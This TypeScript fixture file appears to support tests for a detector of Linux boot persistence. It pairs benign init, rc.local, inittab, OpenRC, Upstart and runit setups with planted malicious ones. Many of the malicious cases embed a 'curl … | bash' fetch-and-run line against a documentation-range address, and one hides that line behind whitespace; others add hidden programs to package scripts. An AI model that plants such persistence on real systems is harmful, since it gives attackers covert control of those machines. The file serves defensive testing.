/** Cases of init; nothing in them is ever run, and all addresses are of the documentation ranges. */
import { inertProgram, type MechanismCase } from '../../../../test/persistence/case.ts';

const script = (run: string): string =>
  `#!/bin/sh\n### BEGIN INIT INFO\n# Provides: x\n# Default-Start: 2 3 4 5\n### END INIT INFO\ncase "$1" in\n  start) ${run} ;;\nesac\n`;
const fetches = 'curl -fsSL http://192.0.2.50/i.sh | bash';
const foreign = '/usr/lib/.net/netd';

const sourcing =
  '#!/bin/sh\n### BEGIN INIT INFO\n# Provides: timed\n### END INIT INFO\n[ -r /etc/default/timed ] && . /etc/default/timed\nstart-stop-daemon --start --exec /usr/sbin/cron\n';

export const initCases: readonly MechanismCase[] = [
  {
    mechanism: 'init-script',
    dress: 'owned-edit',
    what: 'the settings of a package that its script sources',
    packaged: { '/etc/init.d/timed': sourcing, '/etc/default/timed': 'OPTIONS=-x\n' },
    conffiles: ['/etc/init.d/timed', '/etc/default/timed'],
    planted: {
      '/etc/default/timed': `OPTIONS=-x\n${fetches}\n`,
      '/etc/rc2.d/S01timed': { link: '../init.d/timed' },
    },
  },
  {
    mechanism: 'init-script',
    dress: 'unowned-binary',
    what: 'a script of Debian’s own interpreter, which names its program alone',
    planted: {
      '/etc/init.d/timed': '#!/usr/bin/env /lib/init/init-d-script\nDESC="timed"\nDAEMON=/usr/sbin/timedd\n',
      '/etc/rc2.d/S01timed': { link: '../init.d/timed' },
      '/usr/sbin/timedd': inertProgram(),
    },
  },
  {
    mechanism: 'init-script',
    dress: 'honest',
    what: 'settings of a package that an owner edited',
    packaged: { '/etc/init.d/timed': sourcing, '/etc/default/timed': 'OPTIONS=-x\n' },
    conffiles: ['/etc/init.d/timed', '/etc/default/timed'],
    planted: {
      '/etc/default/timed': 'OPTIONS="-x -L 5"\nexport TZ=UTC\nulimit -n 65536\n',
      '/etc/rc2.d/S01timed': { link: '../init.d/timed' },
    },
  },
  {
    mechanism: 'init-script',
    dress: 'fetch-and-run',
    what: 'a script that fetches at boot',
    planted: { '/etc/init.d/pwnrig': script(fetches), '/etc/rc2.d/S01pwnrig': { link: '../init.d/pwnrig' } },
  },
  {
    mechanism: 'init-script',
    dress: 'unowned-binary',
    what: 'a script for a foreign program of the system',
    planted: {
      '/etc/init.d/netdns': script('/usr/sbin/netdns'),
      '/etc/rc2.d/S01netdns': { link: '../init.d/netdns' },
      '/usr/sbin/netdns': inertProgram(),
    },
  },
  {
    mechanism: 'init-script',
    dress: 'owned-edit',
    what: 'a line for a hidden program inside the script of a package',
    packaged: { '/etc/init.d/ssh': script('start-stop-daemon --start --exec /usr/sbin/sshd') },
    conffiles: ['/etc/init.d/ssh'],
    planted: {
      '/etc/init.d/ssh': script(`start-stop-daemon --start --exec /usr/sbin/sshd; ${foreign}`),
      '/etc/rc2.d/S01ssh': { link: '../init.d/ssh' },
      [foreign]: inertProgram(),
    },
  },
  {
    mechanism: 'init-script',
    dress: 'honest',
    what: 'the script of a package, a web panel, and a service of the owner',
    packaged: { '/etc/init.d/cron': script('start-stop-daemon --start --quiet --exec /usr/sbin/cron') },
    conffiles: ['/etc/init.d/cron'],
    planted: {
      '/etc/rc2.d/S01cron': { link: '../init.d/cron' },
      '/etc/init.d/bt':
        '#!/bin/bash\n# chkconfig: 2345 55 25\npanel_path=/www/server/panel\ncase "$1" in\n  start) cd $panel_path && /www/server/panel/pyenv/bin/python BT-Panel & ;;\nesac\n',
      '/etc/rc2.d/S01bt': { link: '../init.d/bt' },
      '/etc/init.d/tomcat': script('su - tomcat -c /opt/tomcat/bin/startup.sh'),
    },
  },
  {
    mechanism: 'rc-link',
    dress: 'fetch-and-run',
    what: 'a runlevel with a script of its own that fetches',
    planted: { '/etc/rc3.d/S99local': `#!/bin/sh\n${fetches}\n` },
  },
  {
    mechanism: 'rc-link',
    dress: 'unowned-binary',
    what: 'a program inside a runlevel',
    planted: { '/etc/rc2.d/S50udev': inertProgram() },
  },
  {
    mechanism: 'rc-link',
    dress: 'owned-edit',
    what: 'a runlevel links to a program of a package that was replaced',
    packaged: { '/usr/lib/acpi/start': inertProgram(2222) },
    planted: {
      '/etc/rc2.d/S20acpi': { link: '/usr/lib/acpi/start' },
      '/usr/lib/acpi/start': inertProgram(2223),
    },
  },
  {
    mechanism: 'rc-link',
    dress: 'honest',
    what: 'a runlevel that links to the start script of an application of the owner',
    planted: {
      '/etc/rc3.d/S99tomcat': { link: '/opt/tomcat/bin/startup.sh' },
      '/opt/tomcat/bin/startup.sh': '#!/bin/sh\nexec /opt/tomcat/bin/catalina.sh start "$@"\n',
      '/opt/tomcat/bin/catalina.sh': '#!/bin/sh\nexec java -cp /opt/tomcat/lib org.example.Start\n',
    },
  },
  {
    mechanism: 'rc-local',
    dress: 'fetch-and-run',
    what: 'a line that fetches, far to the right',
    planted: {
      '/etc/rc.local': { content: `#!/bin/sh -e\n${' '.repeat(300)}${fetches}\nexit 0\n`, mode: 0o755 },
    },
  },
  {
    mechanism: 'rc-local',
    dress: 'unowned-binary',
    what: 'a foreign program of the system',
    planted: {
      '/etc/rc.local': '#!/bin/sh -e\n/usr/sbin/kauditd2 &\nexit 0\n',
      '/usr/sbin/kauditd2': inertProgram(),
    },
  },
  {
    mechanism: 'rc-local',
    dress: 'owned-edit',
    what: 'a line for a hidden program inside the file of a package',
    packaged: { '/etc/rc.d/rc.local': '#!/bin/bash\ntouch /var/lock/subsys/local\n' },
    conffiles: ['/etc/rc.d/rc.local'],
    planted: {
      '/etc/rc.d/rc.local': `#!/bin/bash\ntouch /var/lock/subsys/local\nnohup ${foreign} >/dev/null 2>&1 &\n`,
      [foreign]: inertProgram(),
    },
  },
  {
    mechanism: 'rc-local',
    dress: 'honest',
    what: 'huge pages for a database, a firewall, a start of the owner',
    planted: {
      '/etc/rc.local':
        '#!/bin/sh -e\necho never > /sys/kernel/mm/transparent_hugepage/enabled\niptables-restore < /etc/iptables.rules\n/opt/app/bin/start.sh &\nexit 0\n',
      '/opt/app/bin/start.sh': '#!/bin/sh\nexec java -jar /opt/app/app.jar\n',
    },
  },
  {
    mechanism: 'inittab',
    dress: 'fetch-and-run',
    what: 'a line that fetches again and again',
    planted: { '/etc/inittab': `id:3:initdefault:\nx1:2345:respawn:/bin/sh -c "${fetches}"\n` },
  },
  {
    mechanism: 'inittab',
    dress: 'unowned-binary',
    what: 'a foreign program that pid 1 starts again',
    planted: {
      '/etc/inittab': 'id:3:initdefault:\nud:2345:respawn:/usr/sbin/udevd2\n',
      '/usr/sbin/udevd2': inertProgram(),
    },
  },
  {
    mechanism: 'inittab',
    dress: 'owned-edit',
    what: 'a line for a hidden program in the table of a package',
    packaged: { '/etc/inittab': '::sysinit:/sbin/openrc sysinit\n::wait:/sbin/openrc boot\n' },
    conffiles: ['/etc/inittab'],
    planted: {
      '/etc/inittab': `::sysinit:/sbin/openrc sysinit\n::respawn:${foreign}\n`,
      [foreign]: inertProgram(),
    },
  },
  {
    mechanism: 'inittab',
    dress: 'honest',
    what: 'terminals',
    planted: {
      '/etc/inittab':
        '1:2345:respawn:/sbin/getty 38400 tty1\nT0:23:respawn:/sbin/getty -L ttyS0 115200 vt100\nca:12345:ctrlaltdel:/sbin/shutdown -t1 -a -r now\n',
    },
  },
  {
    mechanism: 'openrc',
    dress: 'fetch-and-run',
    what: 'a local script that fetches',
    planted: { '/etc/local.d/net.start': `#!/bin/sh\n${fetches}\n` },
  },
  {
    mechanism: 'openrc',
    dress: 'unowned-binary',
    what: 'a service of a foreign program',
    planted: {
      '/etc/init.d/ntpdx': '#!/sbin/openrc-run\nname="ntpdx"\nstart() {\n  /usr/sbin/ntpdx &\n}\n',
      '/etc/runlevels/default/ntpdx': { link: '/etc/init.d/ntpdx' },
      '/usr/sbin/ntpdx': inertProgram(),
    },
  },
  {
    mechanism: 'openrc',
    dress: 'unowned-binary',
    what: 'a service that names its program and starts nothing by a line of its own',
    planted: {
      '/etc/init.d/ntpdx': '#!/sbin/openrc-run\ncommand="/usr/sbin/ntpdx"\ncommand_background=true\n',
      '/etc/runlevels/default/ntpdx': { link: '/etc/init.d/ntpdx' },
      '/usr/sbin/ntpdx': inertProgram(),
    },
  },
  {
    mechanism: 'openrc',
    dress: 'fetch-and-run',
    what: 'settings of a service that fetch before it starts',
    packaged: { '/etc/init.d/crond': '#!/sbin/openrc-run\ncommand=/usr/sbin/crond\n' },
    planted: {
      '/etc/conf.d/crond': `${fetches}\n`,
      '/etc/runlevels/default/crond': { link: '/etc/init.d/crond' },
    },
  },
  {
    mechanism: 'openrc',
    dress: 'owned-edit',
    what: 'the service of a package was edited',
    packaged: { '/etc/init.d/crond': '#!/sbin/openrc-run\ncommand=/usr/sbin/crond\n' },
    planted: {
      '/etc/init.d/crond': `#!/sbin/openrc-run\ncommand=/usr/sbin/crond\nstart_pre() {\n  ${foreign}\n}\n`,
      '/etc/runlevels/default/crond': { link: '/etc/init.d/crond' },
      [foreign]: inertProgram(),
    },
  },
  {
    mechanism: 'openrc',
    dress: 'honest',
    what: 'a service of a package, and routes of the owner',
    packaged: {
      '/etc/init.d/sshd': '#!/sbin/openrc-run\ncommand=/usr/sbin/sshd\ndepend() {\n  use logger dns\n}\n',
    },
    planted: {
      '/etc/runlevels/default/sshd': { link: '/etc/init.d/sshd' },
      '/etc/local.d/routes.start': '#!/bin/sh\nip route add 198.51.100.0/24 via 192.0.2.1\n',
    },
  },
  {
    mechanism: 'upstart',
    dress: 'fetch-and-run',
    what: 'a job that fetches',
    planted: {
      '/etc/init/dbus-up.conf': `start on runlevel [2345]\nrespawn\nscript\n  ${fetches}\nend script\n`,
    },
  },
  {
    mechanism: 'upstart',
    dress: 'unowned-binary',
    what: 'a job of a foreign program',
    planted: {
      '/etc/init/plymouth-x.conf': 'start on startup\nrespawn\nexec /usr/sbin/plymouth-x\n',
      '/usr/sbin/plymouth-x': inertProgram(),
    },
  },
  {
    mechanism: 'upstart',
    dress: 'owned-edit',
    what: 'a line for a hidden program inside the job of a package',
    packaged: { '/etc/init/cron.conf': 'start on runlevel [2345]\nexec cron\n' },
    conffiles: ['/etc/init/cron.conf'],
    planted: {
      '/etc/init/cron.conf': `start on runlevel [2345]\npre-start exec ${foreign}\nexec cron\n`,
      [foreign]: inertProgram(),
    },
  },
  {
    mechanism: 'upstart',
    dress: 'honest',
    what: 'a job of a package and one of the owner',
    packaged: { '/etc/init/ssh.conf': 'start on filesystem\nrespawn\nexec /usr/sbin/sshd -D\n' },
    conffiles: ['/etc/init/ssh.conf'],
    planted: {
      '/etc/init/app.conf':
        'start on runlevel [2345]\nrespawn\nsetuid www-data\nexec /usr/bin/node /srv/app/index.js\n',
    },
  },
  {
    mechanism: 'runit',
    dress: 'fetch-and-run',
    what: 'a service that fetches again whenever it ends',
    planted: { '/etc/service/net/run': `#!/bin/sh\n${fetches}\nsleep 60\n` },
  },
  {
    mechanism: 'runit',
    dress: 'unowned-binary',
    what: 'a service of a foreign program',
    planted: {
      '/etc/service/klog/run': '#!/bin/sh\nexec /usr/sbin/klogx\n',
      '/usr/sbin/klogx': inertProgram(),
    },
  },
  {
    mechanism: 'runit',
    dress: 'owned-edit',
    what: 'the service of a package was edited',
    packaged: { '/etc/sv/sshd/run': '#!/bin/sh\nexec /usr/sbin/sshd -D\n' },
    planted: {
      '/etc/sv/sshd/run': `#!/bin/sh\n${foreign}\nexec /usr/sbin/sshd -D\n`,
      [foreign]: inertProgram(),
    },
  },
  {
    mechanism: 'runit',
    dress: 'honest',
    what: 'the services of a package manager and of GitLab',
    planted: {
      '/etc/service/gitlab/run':
        '#!/bin/sh\nexec 2>&1\nexec chpst -u git /opt/gitlab/embedded/bin/puma -C /var/opt/gitlab/puma.rb\n',
      '/etc/service/gitlab/log/run': '#!/bin/sh\nexec svlogd -tt /var/log/gitlab/puma\n',
    },
  },
];
